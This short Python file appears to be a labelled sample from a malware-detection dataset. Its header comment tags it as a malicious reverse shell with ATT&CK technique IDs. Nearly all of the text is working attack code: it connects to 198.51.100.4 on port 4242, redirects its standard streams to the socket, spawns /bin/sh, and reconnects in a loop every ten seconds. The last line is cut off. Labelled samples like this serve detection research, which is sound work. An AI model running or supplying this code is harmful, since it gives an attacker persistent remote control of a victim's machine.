# label: malicious family=revshell techniques=T1059.004,T1095,T1571 lines=5-9,12
import socket,os,pty,time
def go(h,p):
    s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
    s.connect((h,p))
    os.dup2(s.fileno(),0)
    os.dup2(s.fileno(),1)
    os.dup2(s.fileno(),2)
    pty.spawn("/bin/sh")
while True:
    try:
        go("198.51.100.4",4242)
    except Exception:
        time.sleep(10)
print("reconn
